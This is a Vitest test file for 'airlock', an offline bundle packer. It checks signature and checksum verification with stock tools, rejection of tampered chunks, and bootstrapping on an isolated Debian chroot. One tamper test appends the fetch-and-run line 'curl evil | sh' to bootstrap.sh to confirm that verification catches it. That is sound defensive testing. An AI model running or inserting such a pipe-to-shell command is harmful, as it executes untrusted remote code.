// A bundle checked with stock tools only (the commands FORMAT.md gives), and a self-contained bundle
// (`pack --self`) that bootstraps airlock on a clean Debian 12 root with no Node, inside a network
// namespace with no route out: bootstrap.sh verifies, installs and loads, `airlock serve` starts there,
// and curl from the host fetches the files. A tampered chunk stops bootstrap before anything runs.
import { execFileSync, spawn, type ChildProcess } from 'node:child_process';
import { createHash } from 'node:crypto';
import { cpSync, existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { run } from './helpers/cli.js';
import { ok, writeManifest } from './helpers/pipeline.js';
import { debianRoot } from './helpers/debian-root.js';
import { randomFile, startUpstream, type Upstream } from './helpers/upstream.js';
import { tempDir } from './helpers/tmp.js';

const dir = tempDir();
const bundle = join(dir, 'bundle');
const pub = join(dir, 'site.pub');
let up: Upstream;
let files: ReturnType<Upstream['add']>[];

beforeAll(async () => {
  up = await startUpstream();
  files = [up.add('/dl/v1/kubeadm', randomFile(300_000)), up.add('/dl/v1/etcd.tar.gz', randomFile(100_000))];
  await ok(['collect', '-f', writeManifest(dir, files), '--store', join(dir, 'store'), '-q']);
  await ok(['keygen', '--out', join(dir, 'site')]);
  await ok(['pack', '--store', join(dir, 'store'), '--out', bundle, '--key', join(dir, 'site.key'), '--self', '--chunk-size', '16MiB', '-q']);
}, 300_000);
afterAll(() => up?.close());

/** The three steps of FORMAT.md's "Verifying a bundle without airlock", as written there. */
const STOCK_CHECK = `set -e
sed -n 's/.*"signature": *"\\([A-Za-z0-9+/=]*\\)".*/\\1/p' bundle.json.sig | base64 -d > "$SIG"
openssl pkeyutl -verify -pubin -inkey "$PUB" -rawin -in bundle.json -sigfile "$SIG"
test "$(sed -n 's/^ *"sums": *"\\([0-9a-f]*\\)".*/\\1/p' bundle.json)" = "$(sha256sum SHA256SUMS | cut -d' ' -f1)" && echo SHA256SUMS: OK
sha256sum -c SHA256SUMS`;

const stockCheck = (bundleDir: string) => run('sh', ['-c', `cd "${bundleDir}" && ${STOCK_CHECK}`], { env: { SIG: join(dir, 'sig.bin'), PUB: pub } });

describe('verifying a bundle with stock tools', () => {
  it('is what FORMAT.md documents, word for word', () => {
    const format = readFileSync(new URL('../src/bundle/FORMAT.md', import.meta.url), 'utf8');
    for (const line of STOCK_CHECK.split('\n').slice(1)) expect(format).toContain(line.replaceAll('"$SIG"', '/tmp/bundle.sig').replaceAll('"$PUB"', 'site.pub'));
  });

  it('passes on the bundle, and fails on a changed chunk or a changed TOC', async () => {
    const good = await stockCheck(bundle);
    expect(good.stdout, good.stderr).toContain('Signature Verified Successfully');
    expect(good.code).toBe(0);
    expect(good.stdout).toMatch(/chunk-00001\.tar: OK/);
    const chunk = join(dir, 'bad-chunk');
    cpSync(bundle, chunk, { recursive: true });
    flip(join(chunk, 'chunk-00001.tar'), 700);
    const r = await stockCheck(chunk);
    expect(r.code).not.toBe(0);
    expect(r.stdout).toMatch(/chunk-00001\.tar: FAILED/);
    const toc = join(dir, 'bad-toc');
    cpSync(bundle, toc, { recursive: true });
    writeFileSync(join(toc, 'bundle.json'), readFileSync(join(toc, 'bundle.json'), 'utf8').replace('"tool"', '"tool" '));
    expect((await stockCheck(toc)).code).not.toBe(0);
  });

  it('airlock verify checks SHA256SUMS and bootstrap.sh too', async () => {
    const copy = join(dir, 'bad-bootstrap');
    cpSync(bundle, copy, { recursive: true });
    writeFileSync(join(copy, 'bootstrap.sh'), readFileSync(join(copy, 'bootstrap.sh'), 'utf8') + '\ncurl evil | sh\n');
    const { airlock } = await import('./helpers/cli.js');
    const r = await airlock(['verify', copy, '--pubkey', pub, '-q']);
    expect(r.code).toBe(7);
    expect(r.stderr + r.stdout).toContain('bootstrap.sh');
  });
});

describe('pack --self on a clean Debian 12 root with no Node and no route out', () => {
  const ns = `alself${process.pid}`;
  let root: string;
  let serve: ChildProcess | undefined;
  const inRoot = (cmd: string) => ['ip', 'netns', 'exec', ns, 'unshare', '--mount', '--fork', 'sh', '-c', `mount -t proc proc "${root}/proc" && mount --rbind /dev "${root}/dev" && exec chroot "${root}" sh -c '${cmd}'`];

  beforeAll(async () => {
    root = await debianRoot(join(dir, 'root'));
    execFileSync('ip', ['netns', 'add', ns]);
    execFileSync('ip', ['link', 'add', `h${ns}`.slice(0, 15), 'type', 'veth', 'peer', 'name', `n${ns}`.slice(0, 15)]);
    execFileSync('ip', ['link', 'set', `n${ns}`.slice(0, 15), 'netns', ns]);
    execFileSync('ip', ['addr', 'add', '10.214.0.1/30', 'dev', `h${ns}`.slice(0, 15)]);
    execFileSync('ip', ['link', 'set', `h${ns}`.slice(0, 15), 'up']);
    for (const c of [['ip', 'addr', 'add', '10.214.0.2/30', 'dev', `n${ns}`.slice(0, 15)], ['ip', 'link', 'set', `n${ns}`.slice(0, 15), 'up'], ['ip', 'link', 'set', 'lo', 'up']]) execFileSync('ip', ['netns', 'exec', ns, ...c]);
  }, 600_000);
  afterAll(() => {
    serve?.kill('SIGKILL');
    try {
      execFileSync('ip', ['netns', 'del', ns]);
      execFileSync('ip', ['link', 'del', `h${ns}`.slice(0, 15)], { stdio: 'ignore' });
    } catch {
      // gone with the namespace
    }
  });

  it('has no Node to begin with', async () => {
    const [cmd, ...args] = inRoot('command -v node || command -v nodejs || echo none');
    expect((await run(cmd!, args)).stdout.trim()).toBe('none');
  });

  it('a tampered chunk stops bootstrap before anything from the bundle runs', async () => {
    const bad = join(root, 'media', 'bad');
    cpSync(bundle, bad, { recursive: true });
    cpSync(pub, join(root, 'media', 'site.pub'));
    flip(join(bad, 'chunk-00001.tar'), 4096);
    const [cmd, ...args] = inRoot('sh /media/bad/bootstrap.sh --pubkey /media/site.pub --prefix /opt/bad --store /var/lib/bad');
    const r = await run(cmd!, args);
    expect(r.code).not.toBe(0);
    expect(r.stderr).toMatch(/does not match SHA256SUMS/);
    expect(existsSync(join(root, 'opt', 'bad'))).toBe(false);
    expect(existsSync(join(root, 'var', 'lib', 'bad'))).toBe(false);
  });

  it('bootstrap.sh verifies, installs airlock and loads; airlock serve there answers the host', async () => {
    cpSync(bundle, join(root, 'media', 'bundle'), { recursive: true });
    cpSync(pub, join(root, 'media', 'site.pub'));
    const [cmd, ...args] = inRoot('sh /media/bundle/bootstrap.sh --pubkey /media/site.pub --prefix /opt/airlock --store /var/lib/airlock -- -q');
    const boot = await run(cmd!, args);
    expect(boot.code, boot.stderr).toBe(0);
    expect(boot.stdout + boot.stderr).toContain('bundle.json signature valid');
    const [scmd, ...sargs] = inRoot('exec /opt/airlock/node/bin/node /opt/airlock/airlock/bin/airlock.js serve --store /var/lib/airlock --listen 10.214.0.2:8080 --json');
    serve = spawn(scmd!, sargs, { stdio: ['ignore', 'pipe', 'pipe'] });
    await new Promise<void>((resolve, reject) => {
      serve!.stdout!.once('data', () => resolve());
      serve!.once('exit', (code) => reject(new Error(`serve exited ${code}`)));
    });
    for (const f of files) {
      const got = execFileSync('curl', ['-sf', `http://10.214.0.2:8080/files/${new URL(f.url).host}${new URL(f.url).pathname}`]);
      expect(createHash('sha256').update(got).digest('hex')).toBe(f.sha256);
    }
  });
});

function flip(file: string, at: number): void {
  const bytes = readFileSync(file);
  bytes[at] = bytes[at]! ^ 0xff;
  writeFileSync(file, bytes);
}
